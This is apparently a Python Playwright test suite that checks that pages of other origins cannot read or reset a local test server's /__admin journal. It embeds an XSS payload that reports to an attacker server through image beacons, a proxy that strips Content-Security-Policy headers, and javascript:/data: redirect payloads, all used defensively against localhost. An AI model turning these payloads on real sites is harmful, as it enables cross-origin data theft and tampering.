"""Pages of other origins in a browser: what they may read, and what they may not do.

The attacks on `/__admin` are tried by pages of another port and of another name. Each
one that needs a script in our origin is also tried without the sandbox, which shows
that it would succeed.
"""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import BaseRequestHandler, BaseServer, ThreadingTCPServer
from threading import Condition, Thread
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit
from urllib.request import urlopen

import pytest
from playwright.sync_api import Page, Response

from tests.browser.conftest import OpenPage
from tests.server.running import RunningServer

MARK = "nobody-else-may-see-this"
ORIGINS = [("localhost", "127.0.0.1"), ("127.0.0.1", "localhost")]
"""Names of the attacker's host and of ours; then both with the same name."""
ORIGINS += [("localhost", "localhost"), ("127.0.0.1", "127.0.0.1")]
ANY_COMPLAINT = ("",)

HTML = "_header=Content-Type:text/html"
DOCUMENTS = [
    f"/get?{HTML}&x=SCRIPT",
    f"/anything?{HTML}&x=SCRIPT",
    f"/stream/1?{HTML}&x=SCRIPT",
    f"/get?{HTML}&_status=404&x=SCRIPT",
    f"/get?{HTML}&_drip=100ms/3&x=SCRIPT",
    f"/get?{HTML}&_fault=wrong-length&x=SCRIPT",
    f"/delay/100ms?{HTML}&x=SCRIPT",
    f"/redirect-to?url=/get%3F{quote(HTML)}%26x=SCRIPT",
    "/response-headers?Content-Type=text/html&x=SCRIPT",
    f"/get?{HTML}&_header=X-Content-Type-Options:none&x=SCRIPT",
    f"/get?{HTML}&_header=Content-Security-Policy:script-src%20*&x=SCRIPT",
    (
        f"/get?{HTML}&_header=content-security-policy:sandbox%20allow-scripts%20"
        "allow-same-origin%20allow-forms&x=SCRIPT"
    ),
    (
        "/response-headers?Content-Type=text/html&Content-Security-Policy="
        "sandbox%20allow-scripts%20allow-same-origin&x=SCRIPT"
    ),
]
"""Documents of our origin, with a script that somebody else wrote."""

# Without double quotes and backslashes, which JSON would escape.
SCRIPT = (
    "<script>"
    "const tell = what => {{ new Image().src = '{elsewhere}/told?' + what }};"
    "tell('ran');"
    "fetch('/__admin/requests').then(a => a.text())"
    ".then(t => tell(t.includes('{mark}') ? 'read' : 'refused'))"
    ".then(() => fetch('/__admin/reset', {{method: 'POST'}}))"
    ".then(a => tell(a.ok ? 'reset' : 'refused'));"
    "</script>"
)

POLICY = re.compile(rb"Content-Security-Policy:", re.I)
NO_POLICY = b"Nothing-Of-This-Is-Kept:"
"""As long, because the body has it too."""

NAVIGATE = "url => { location = url }"
OPEN = "url => { window.open(url) }"
IN_A_FRAME = """url => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.onload = resolve;
    // A download never loads.
    setTimeout(resolve, 2000);
    frame.src = url;
    document.body.append(frame);
})"""
POST = """([url, fields, target]) => {
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: url, target});
    for (const name in fields) {
        const field = document.createElement("input");
        Object.assign(field, {name, value: fields[name]});
        form.append(field);
    }
    document.body.append(form);
    form.submit();
}"""

ASK = """async ([url, elsewhere]) => {
    const found = [];
    const ask = async (path, options) => {
        try {
            const answer = await fetch(url + path, options);
            const text = await answer.text();
            if (text) found.push([path, JSON.stringify(options ?? {}), text]);
        } catch {}
    };
    const include = {credentials: "include"};
    const to = `/redirect-to?url=/__admin/`;
    for (const path of ["requests", "stats", "live", "events", "live/live.js"])
        for (const options of [{}, include, {mode: "no-cors"}, {cache: "force-cache"}])
            for (const before of ["/__admin/", "//__admin/", "/%5f%5fadmin/", to])
                await ask(before + path, options);
    for (const path of ["/metrics", "/healthz", "/readyz"]) await ask(path);
    const post = {method: "POST"};
    for (const options of [
        post, {...post, ...include}, {...post, mode: "no-cors"},
        {...post, mode: "no-cors", body: "x"}, {...post, mode: "no-cors", ...include},
        {...post, mode: "no-cors", referrerPolicy: "no-referrer"},
        {...post, mode: "no-cors", keepalive: true},
        {...post, headers: {"Content-Type": "application/json"}},
        {...post, headers: {"X-Nbtwisted-Header": "Access-Control-Allow-Origin:*"}},
    ]) {
        await ask("/__admin/reset", options);
        await ask(to + "reset&status_code=307", options);
    }
    await ask("/__admin/requests?_header=Access-Control-Allow-Origin:*");
    await ask("/__admin/requests", {headers: {"X-Nbtwisted-Status": "200"}});
    navigator.sendBeacon(url + "/__admin/reset", "x");
    // From elsewhere to us, the origin is "null".
    await fetch(`${elsewhere}/to?url=${url}/__admin/reset`, post).catch(() => {});
    return found;
}"""

EMBED = """url => Promise.all([
    ["img", "src"], ["script", "src"], ["iframe", "src"], ["embed", "src"],
    ["object", "data"], ["video", "src"], ["link", "href"], ["module", "src"],
].flatMap(([kind, name]) => ["requests", "live", "live/live.js", "stats"].map(path =>
    new Promise(resolve => {
        const one = document.createElement(kind === "module" ? "script" : kind);
        if (kind === "module") one.type = "module";
        if (kind === "link") one.rel = "stylesheet";
        one.onload = () => resolve([kind, path, "load"]);
        one.onerror = () => resolve([kind, path, "error"]);
        setTimeout(() => resolve([kind, path, "neither"]), 3000);
        one[name] = `${url}/__admin/${path}`;
        document.body.append(one);
    }))))"""


class Elsewhere(ThreadingHTTPServer):
    """The attacker's server: a blank page, and an ear for what scripts tell it."""

    # It ends with its last connection: no socket is left behind.
    daemon_threads = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.told: list[str] = []
        self.changed = Condition()

    def url(self, host: str) -> str:
        return f"http://{host}:{self.server_port}"

    def wait_for(self, about: str, *told: str) -> None:
        with self.changed:
            done = self.changed.wait_for(lambda: set(told) <= set(self.told), 10)
            assert done, (about, told, self.told)


class _Handler(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        target = urlsplit(self.path)
        if target.path == "/told":
            with self.server.changed:
                self.server.told.append(target.query)
                self.server.changed.notify_all()
        if target.path == "/to":
            self.send_response(307)
            self.send_header("Location", parse_qs(target.query)["url"][0])
        else:
            self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        if target.path == "/":
            self.wfile.write(b"<!doctype html><title>elsewhere</title><body>")

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


class Undoing(ThreadingTCPServer):
    """A way to our server on which policies get lost."""

    def __init__(self, port: int) -> None:
        super().__init__(("127.0.0.1", 0), _Undo)
        self.port_behind = port


class _Undo(BaseRequestHandler):
    server: Undoing

    def handle(self) -> None:
        asking: socket.socket = self.request
        behind = ("127.0.0.1", self.server.port_behind)
        with socket.create_connection(behind) as answering, suppress(OSError):
            Thread(target=self._pass_on, args=(answering,), daemon=True).start()
            while data := answering.recv(65536):
                asking.sendall(POLICY.sub(NO_POLICY, data))

    def _pass_on(self, answering: socket.socket) -> None:
        with suppress(OSError):
            while data := self.request.recv(65536):
                answering.sendall(data)
            answering.shutdown(socket.SHUT_RDWR)


@contextmanager
def running(server: BaseServer) -> Iterator[None]:
    thread = Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class Scene:
    """Our server, with something in its journal, and the attacker's.

    The browser finds ours at `port`.
    """

    def __init__(self, server: RunningServer, elsewhere: Elsewhere) -> None:
        self.server = server
        self.elsewhere = elsewhere
        self.port = server.port

    def ours(self, host: str) -> str:
        return f"http://{host}:{self.port}"

    def document(self, target: str, theirs: str, ours: str) -> str:
        """The URL of a document of ours with their script."""
        script = SCRIPT.format(elsewhere=self.elsewhere.url(theirs), mark=MARK)
        # Twice for what is in a parameter of a parameter.
        quoted = quote(quote(script)) if "redirect-to" in target else quote(script)
        return self.ours(ours) + target.replace("SCRIPT", quoted)

    def mark(self) -> None:
        with urlopen(f"{self.server.url}get?{MARK}") as answer:
            answer.read()

    def is_marked(self) -> bool:
        """Whether the journal still has what was put into it."""
        with urlopen(f"{self.server.url}__admin/requests") as answer:
            entries = json.load(answer)["requests"]
        return any(MARK in entry["target"] for entry in entries)


@pytest.fixture
def scene() -> Iterator[Scene]:
    elsewhere = Elsewhere()
    with running(elsewhere), RunningServer() as server:
        scene = Scene(server, elsewhere)
        scene.mark()
        yield scene


def load(page: Page, how: str, url: str) -> None:
    """Have a page of another origin load a document; returns when it is loaded."""
    if how == "frame":
        page.evaluate(IN_A_FRAME, url)
    elif how == "popup":
        with page.context.expect_page() as opened:
            page.evaluate(OPEN, url)
        opened.value.wait_for_load_state()
        opened.value.close()
    else:
        with page.expect_navigation():
            if how == "navigation":
                page.evaluate(NAVIGATE, url)
            else:
                page.evaluate(POST, [url, {"a": "b"}, "_self"])


def is_of_reset(answer: Response) -> bool:
    return answer.url.endswith("/__admin/reset")


WAYS = ["navigation", "frame", "popup", "form"]


def takes(target: str, how: str) -> bool:
    """Whether a document can be had in a way: few paths take forms."""
    takes_forms = target.startswith(("/anything", "/response-headers"))
    return how != "form" or takes_forms


@pytest.mark.parametrize("how", WAYS)
def test_no_script_runs_in_our_name(
    scene: Scene, open_page: OpenPage, how: str
) -> None:
    page = open_page(scene.elsewhere.url("localhost"), complaints=ANY_COMPLAINT)
    for theirs, ours in ORIGINS[::2]:
        for target in DOCUMENTS:
            if takes(target, how):
                page.goto(scene.elsewhere.url(theirs))
                load(page, how, scene.document(target, theirs, ours))
                assert scene.elsewhere.told == [], target
    assert scene.is_marked()


@pytest.mark.parametrize("how", ["navigation", "popup"])
def test_without_the_sandbox_each_would(
    scene: Scene, open_page: OpenPage, how: str
) -> None:
    theirs, ours = ORIGINS[0]
    start = scene.elsewhere.url(theirs)
    page = open_page(start, complaints=ANY_COMPLAINT)
    undoing = Undoing(scene.server.port)
    scene.port = undoing.server_address[1]
    # Its connections end with the page.
    with running(undoing), closing(page.context):
        for target in DOCUMENTS:
            scene.elsewhere.told.clear()
            scene.mark()
            page.goto(start)
            url = scene.document(target, theirs, ours)
            page.evaluate(NAVIGATE if how == "navigation" else OPEN, url)
            scene.elsewhere.wait_for(target, "ran", "read", "reset")
            assert not scene.is_marked(), target


@pytest.mark.parametrize(("theirs", "ours"), ORIGINS)
def test_nothing_of_the_operators_is_had_by_script(
    scene: Scene, open_page: OpenPage, theirs: str, ours: str
) -> None:
    start = scene.elsewhere.url(theirs)
    page = open_page(start, complaints=ANY_COMPLAINT)
    assert page.evaluate(ASK, [scene.ours(ours), start]) == []
    # The same from a frame whose origin is "null".
    page.evaluate(
        """() => new Promise(resolve => {
            const frame = document.createElement("iframe");
            frame.sandbox = "allow-scripts allow-forms";
            frame.srcdoc = "<p>sandboxed";
            frame.onload = resolve;
            document.body.append(frame);
        })"""
    )
    frame = page.frames[-1]
    assert frame.evaluate(ASK, [scene.ours(ours), start]) == []
    with page.context.expect_event("response", is_of_reset) as answered:
        frame.evaluate(POST, [f"{scene.ours(ours)}/__admin/reset", {}, "_self"])
    assert answered.value.status == 403
    assert scene.is_marked()
    assert scene.elsewhere.told == []


@pytest.mark.parametrize(("theirs", "ours"), ORIGINS)
def test_nothing_of_the_operators_is_a_part_of_a_page(
    scene: Scene, open_page: OpenPage, theirs: str, ours: str
) -> None:
    page = open_page(scene.elsewhere.url(theirs), complaints=ANY_COMPLAINT)
    outcomes = page.evaluate(EMBED, scene.ours(ours))
    for kind, path, outcome in outcomes:
        # Of a frame that shows the browser's own error, it says that it was loaded.
        if kind not in ("iframe", "embed", "object"):
            assert outcome != "load", (kind, path)
    shown = {urlsplit(frame.url).scheme for frame in page.frames[1:]}
    assert shown <= {"chrome-error", ""}
    assert scene.is_marked()


@pytest.mark.parametrize("target", ["_self", "_blank", "frame"])
@pytest.mark.parametrize(("theirs", "ours"), ORIGINS)
def test_no_form_resets(
    scene: Scene, open_page: OpenPage, theirs: str, ours: str, target: str
) -> None:
    page = open_page(scene.elsewhere.url(theirs), complaints=ANY_COMPLAINT)
    page.evaluate("document.body.innerHTML = '<iframe name=frame></iframe>'")
    with page.context.expect_event("response", is_of_reset) as answered:
        page.evaluate(POST, [f"{scene.ours(ours)}/__admin/reset", {"a": "b"}, target])
    assert answered.value.status == 403
    assert scene.is_marked()


def test_no_worker_is_had_of_ours(scene: Scene, open_page: OpenPage) -> None:
    theirs, ours = ORIGINS[0]
    page = open_page(scene.elsewhere.url(theirs), complaints=ANY_COMPLAINT)
    script = (
        f"{scene.ours(ours)}/get?_header=Content-Type:text/javascript"
        "&_header=Service-Worker-Allowed:/"
    )
    refused = page.evaluate(
        """async url => {
            const refused = [];
            await navigator.serviceWorker.register(url, {scope: "/"})
                .catch(error => refused.push(error.name));
            for (const kind of [Worker, SharedWorker])
                try { new kind(url) } catch (error) { refused.push(error.name) }
            return refused;
        }""",
        script,
    )
    assert refused == ["SecurityError"] * 3


NO_DOCUMENTS = [
    "/redirect-to?url=javascript:SCRIPT",
    "/redirect-to?url=data:text/html,SCRIPT",
    "/get?_header=Refresh:0;url=data:text/html,SCRIPT",
    "/get?_header=Refresh:0;url=javascript:alert(1)&_header=Content-Type:text/html",
    "/get?_header=Link:</__admin/live/live.js>;rel=preload;as=script&x=SCRIPT",
    "/get?x=SCRIPT",
    "/nope/SCRIPT",
    "/get?_delay=SCRIPT",
    "/response-headers?Content-Type=&x=SCRIPT",
    "/get?_header=Content-Type:&x=SCRIPT",
    "/get?_header=Content-Type:application/unknown&x=SCRIPT",
]


def test_what_is_no_document_becomes_none(scene: Scene, open_page: OpenPage) -> None:
    theirs, ours = ORIGINS[0]
    page = open_page(scene.elsewhere.url(theirs), complaints=ANY_COMPLAINT)
    for target in NO_DOCUMENTS:
        page.evaluate(IN_A_FRAME, scene.document(target, theirs, ours))
        assert scene.elsewhere.told == [], target
    assert scene.is_marked()


def test_other_paths_are_there_for_all(scene: Scene, open_page: OpenPage) -> None:
    for theirs, ours in ORIGINS:
        page = open_page(scene.elsewhere.url(theirs), complaints=("503",))
        told = page.evaluate(
            """async url => {
                const get = await fetch(url + "/get?a=1&_delay=20ms");
                const put = await fetch(url + "/put?_status=503&_seq=503,200&_key=k", {
                    method: "PUT",
                    credentials: "include",
                    headers: {"X-Any": "1", "Content-Type": "application/json"},
                    body: '{"b": 2}',
                });
                const args = (await get.json()).args;
                const entry = performance.getEntriesByName(get.url)[0];
                return {
                    args,
                    timing: get.headers.get("Server-Timing"),
                    asked: entry.serverTiming[0].duration,
                    status: put.status,
                    body: (await put.json()).json,
                };
            }""",
            scene.ours(ours),
        )
        assert told.pop("timing").startswith("asked;dur=20, held;dur=")
        assert told == {
            "args": {"a": "1", "_delay": "20ms"},
            "asked": 20,
            "status": 503 if (theirs, ours) == ORIGINS[0] else 200,
            "body": {"b": 2},
        }
